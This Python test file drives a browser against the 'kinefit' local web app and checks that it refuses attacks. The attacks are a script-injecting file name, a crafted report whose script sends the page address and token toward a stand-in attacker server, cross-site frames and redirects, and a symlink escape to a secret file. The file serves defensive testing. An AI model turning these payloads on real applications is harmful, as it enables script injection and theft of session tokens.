"""What strangers try against `kinefit app` in a real browser: names of files, crafted reports, foreign pages."""

import os
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

from tests.studio.app.running import TOKEN, running_app

from kinefit.exporters import write_motion
from kinefit.simulation import squat_and_wave

_SETTLE_MS = 2500
_NAME = "a\" :title=\"document.documentElement.dataset.taken='yes'\" b=\""
_FAKE_BROWSER = '#!/bin/sh\nprintf "%s\\n" "$0" "$@" > "$RECORD.part" && mv "$RECORD.part" "$RECORD"\n'


class _Stranger(BaseHTTPRequestHandler):
    """A page of another origin, which remembers what it was asked for."""

    def do_GET(self):
        self.server.asked.append(self.path)
        target = self.server.pages.get(self.path, "")
        self.send_response(302 if target.startswith("http") else 200)
        self.send_header("Location", target) if target.startswith("http") else None
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(target.encode())

    def log_message(self, *_):
        """Say nothing."""


@contextmanager
def stranger():
    """A server of another origin; gives it and its address."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Stranger) as server:
        server.asked, server.pages = [], {}
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server, f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


def attacks(browser, take, folder):
    """{attack: whether it was refused}.

    Parameters
    ----------
    browser : of playwright
    take : file of a take with four cameras and videos, which is copied
    folder : empty, for recordings and files of strangers
    """
    session, foreign = folder / "session", folder / "foreign"
    named = _recordings(take, session, foreign)
    refused = {}
    with stranger() as (server, evil), running_app(session) as (_, address):
        page = browser.new_context().new_page()
        page.goto(f"{address}/")
        page.get_by_role("button", name="Show faces").click()
        page.get_by_text("Open a recording").wait_for()

        def is_taken(path):
            page.goto(address + path)
            page.get_by_text("Compute").or_(page.get_by_text("Corrections")).first.wait_for()
            page.wait_for_timeout(_SETTLE_MS)
            return page.evaluate("document.documentElement.dataset.taken") == "yes"

        file, results = quote(str(named / "take.toml")), quote(str(named / "take-kinefit"))
        refused["script in a video's name"] = not is_taken(f"/take?path={file}")
        refused["script in a camera's name"] = not is_taken(f"/result?path={file}&folder={results}")

        report = named / "take-kinefit" / "report.html"
        into = quote(str(foreign))
        refused |= _crafted_report(page, address, report, server, evil, foreign, into)
        refused["link out of the folder"] = _is_kept_inside(page, address, named, folder)
        page.goto(f"{address}/take?path={into}")
        page.wait_for_timeout(_SETTLE_MS)
        refused["writing on opening"] = not (foreign / "take.toml").exists()

        server.pages["/frame"] = f'<iframe src="{address}/" width=900 height=600></iframe>'
        server.pages["/go"] = f"{address}/take?path={into}"
        server.pages["/start"] = "<script>location = '/go'</script>"
        (folder / "go.html").write_text(f'<meta http-equiv="refresh" content="0; url={address}/">')
        ways = {"frame of a foreign page": f"{evil}/frame", "redirect of a foreign page": f"{evil}/start"}
        for way, url in (ways | {"redirect of a local file": (folder / "go.html").as_uri()}).items():
            page.goto(url)
            page.wait_for_timeout(_SETTLE_MS)
            refused[way] = not any(frame.locator(".q-header").count() for frame in page.frames)
        page.context.close()
    return refused | _opening(browser, session, folder)


def _recordings(take, session, foreign):
    """A recording whose video and camera are named by a stranger, with a result; and a folder without a take."""
    named = session / "named"
    named.mkdir(parents=True)
    foreign.mkdir()
    for source in take.parent.iterdir():
        if source.is_file():
            (named / source.name).write_bytes(source.read_bytes())
    (named / "cam01.mp4").rename(named / f"{_NAME}.mp4")
    (foreign / "cam02.mp4").write_bytes((named / "cam02.mp4").read_bytes())
    for file in (named / "take.toml", named / "calibration.toml"):
        text = file.read_text().replace('"cam01.mp4"', f"'''{_NAME}.mp4'''").replace('"cam01"', f"'''{_NAME}'''")
        file.write_text(text)
    (named / "take-kinefit").mkdir()
    write_motion(squat_and_wave(), named / "take-kinefit" / "motion.npz")
    return named


def _crafted_report(page, address, report, server, evil, foreign, into):
    """A report that sends its address away, and one that knows the token and asks the app to write."""
    report.write_text(
        f"<p>a report<script>const it = encodeURIComponent(location.href + ' ' + document.referrer);"
        f"fetch('{evil}/fetch?' + it).catch(() => 0); new Image().src = '{evil}/image?' + it;"
        f"setTimeout(() => location = '{evil}/go?' + it, 500)</script>"
    )
    page.goto(f"{address}/file?path={quote(str(report))}")
    page.wait_for_timeout(_SETTLE_MS)
    sent = [path for path in server.asked if "?" in path]
    stolen = [path for path in sent if TOKEN in path or not path.startswith("/go?")]  # its own address it may visit
    target = f"{address}/take?path={into}"
    report.write_text(
        f"<p>a report<iframe src='{target}'></iframe><img src='{target}'><script>fetch('{target}').catch(() => 0);"
        f"setTimeout(() => location = '{target}', 500)</script>"
    )
    page.goto(f"{address}/file?path={quote(str(report))}")
    page.wait_for_timeout(2 * _SETTLE_MS)
    return {
        "report that sends the token away": bool(sent) and not stolen,
        "report that writes a take": not (foreign / "take.toml").exists() and not page.locator(".q-header").count(),
    }


def _is_kept_inside(page, address, named, folder):
    """Whether a page is given only where it lies in the folder."""
    (folder / "secret.html").write_text("a secret")
    (named / "linked.html").symlink_to(folder / "secret.html")
    (named / "plain.html").write_text("plain")
    texts = [page.request.get(f"{address}/file?path={quote(str(named / name))}").text()
             for name in ("plain.html", "linked.html")]  # fmt: skip
    return texts[0] == "plain" and "secret" not in texts[1]


def _opening(browser, session, folder):
    """What the command line of the browser shows, and what it is worth afterwards."""
    tools, record = folder / "tools", folder / "record"
    tools.mkdir()
    for name in ("xdg-open", "open"):
        (tools / name).write_text(_FAKE_BROWSER)
        (tools / name).chmod(0o755)
    env = {**os.environ, "PATH": f"{tools}:{os.environ['PATH']}", "RECORD": str(record), "KINEFIT_TOKEN": TOKEN}
    command = [sys.executable, "-m", "kinefit", "app", str(session), "--port", "0"]
    process = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        process.stdout.readline()
        until = time.monotonic() + 60.0
        while not record.exists() and time.monotonic() < until:
            time.sleep(0.1)
        shown = Path(record).read_text().split()
        opened = []
        for _ in range(2):
            page = browser.new_context().new_page()
            page.goto(shown[-1])
            page.wait_for_timeout(_SETTLE_MS)
            opened.append(page.locator(".q-header").count())
            page.context.close()
    finally:
        process.kill()
        process.communicate()
    return {
        "token in the browser's command line": TOKEN not in " ".join(shown),
        "second use of the one-time address": opened == [1, 0],
    }
